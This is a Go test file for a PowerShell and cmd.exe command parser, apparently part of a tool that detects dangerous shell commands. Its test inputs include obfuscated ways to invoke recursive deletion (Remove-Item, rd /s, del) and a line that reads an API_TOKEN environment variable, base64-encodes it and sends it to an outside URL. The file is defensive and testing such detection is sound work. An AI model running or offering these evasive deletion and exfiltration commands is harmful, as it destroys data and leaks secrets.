package shell

import "testing"

func TestPowerShell(t *testing.T) {
	for _, c := range []struct{ src, want string }{
		{`$c = "Remove" + "-Item"; & $c -Recurse x`, "remove-item: -Recurse x\n"},
		{`& ('{0}-{1}' -f 'Remove','Item') x`, "remove-item: x\n"},
		{`& (-join ('r','i')) x`, "remove-item: x\n"},
		{`& ([char]114 + [char]105) x`, "remove-item: x\n"},
		{`& (-join [char[]](114,105)) x`, "remove-item: x\n"},
		{`& ('ir'[-1..-2] -join '') x`, "remove-item: x\n"},
		{`& ('xemove-item'.Replace('xe','re')) x`, "remove-item: x\n"},
		{`& ('Rexx-Item' -replace 'xx','move') x`, "remove-item: x\n"},
		{`& (Get-Command ('Remove-' + 'Item')) x`, "remove-item: x\n"},
		{`Set-Alias nuke Remove-Item; nuke x`, "remove-item: x\n"},
		{`$p = @{ Path = 'x'; Recurse = $true }; Remove-Item @p`, "remove-item: -Path x -Recurse $true\n"},
		{`$p = @{ Path = 'x' }; $p['Re' + 'curse'] = $true; Remove-Item @p`, "remove-item: -Path x -Recurse $true\n"},
		{`$p = @{}; $p.Add('Path', 'x'); $p.add('Recurse', $true); Remove-Item @p`, "remove-item: -Path x -Recurse $true\n"},
		{`$p = @{ a = 1 }; $p['x' + $y] -eq 2; $p[`, "unparsed\n"},
		{`$b = @{ a = 1; c = @('x', 'y') } | ConvertTo-Json; irm u -Body $b`, `invoke-restmethod: u -Body "{\"a\":1,\"c\":[\"x\",\"y\"]}"` + "\n"},
		{`foreach ($d in 'a','b') { ri $d }`, "remove-item: a\nremove-item: b\n"},
		{`'a','b' | ForEach-Object { ri $_ }`, "foreach-object:\nremove-item: [foreach-object] a\nremove-item: [foreach-object] b\n"},
		{`$w = New-Object Net.WebClient; $w.DownloadFile('u','f')`, "[net.webclient]::downloadfile: u f\n"},
		{`"a $('b' + "c") $x"; ri "p\$(1+1)"`, "remove-item: p\\2\n"},
		{"ri `\n x # y\n<# ri z #>", "remove-item: x\n"},
		{`if ($a -eq 'b') { ri x } else { ri y }`, "remove-item: x\nremove-item: y\n"},
		{`function f { param($x) ri $x }`, "remove-item: �\n"},
		{`Start-Process -FilePath y -ArgumentList 'a','b' -Wait`, "start-process: -Wait y a b\n"},
		{`Write-Output "it's" 'a ''b'''`, "write-output: \"it's\" \"a 'b'\"\n"},
		{`$x = 'unclosed`, "unparsed\n"},
	} {
		res := ParseDialect(c.src, PowerShell, testEnv())
		got := ""
		for _, each := range res.Commands {
			line := each
			line.Argv = line.Argv[1:]
			got += each.Program + ":"
			if rest := shownCommand(line); rest != "" {
				got += " " + rest
			}
			got += "\n"
		}
		got += shown(Result{Snippets: res.Snippets, Problems: res.Problems})
		if got != c.want {
			t.Errorf("%s\n got %s\nwant %s", c.src, indent(got), indent(c.want))
		}
	}
}

func TestPowerShellOrigins(t *testing.T) {
	res := ParseDialect(`$k = $env:API_TOKEN; $d = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($k)); irm "https://x/?d=$d"`, PowerShell, testEnv())
	w := res.Commands[len(res.Commands)-1].Argv[1]
	if len(w.Variables()) != 1 || w.Variables()[0] != "api_token" {
		t.Errorf("the word %q is of the variables %v", w.Text, w.Variables())
	}
}

func TestCmd(t *testing.T) {
	for _, c := range []struct{ src, want string }{
		{`set x=rd& %x% /s y`, "set: x=rd\nrd: /s y\n"},
		{`set a=xdel& %a:~1% y`, "set: a=xdel\ndel: y\n"},
		{`for %i in (a b) do rd y`, "rd: y\n"},
		{`if not exist q del y`, "del: y\n"},
		{`if exist q (del y)`, "del: y\n"},
		{`d^e^l y`, "del: y\n"},
		{`echo a>b 2>&1 & echo c 2>nul>>d`, "echo: a write(b)\necho: c write(nul) append(d)\n"},
	} {
		got := ""
		for _, each := range ParseDialect(c.src, Cmd, testEnv()).Commands {
			each.Argv = each.Argv[1:]
			got += each.Program + ": " + shownCommand(each) + "\n"
		}
		if got != c.want {
			t.Errorf("%s\n got %s\nwant %s", c.src, indent(got), indent(c.want))
		}
	}
}

func TestAbsolute(t *testing.T) {
	for _, c := range []struct{ name, cwd, want string }{
		{"a/../b", "/w", "/w/b"}, {`.\a\b.ps1`, "/w", "/w/a/b.ps1"}, {`a\b`, "/w", `/w/a\b`}, {`a\b`, `C:\w`, "C:/w/a/b"}, {`C:\w\a`, "/w", "C:/w/a"}, {"~/a", "/w", "~/a"}, {"a", "", "a"},
	} {
		if got := Absolute(c.name, c.cwd); got != c.want {
			t.Errorf("%s from %s: %s, want %s", c.name, c.cwd, got, c.want)
		}
	}
}
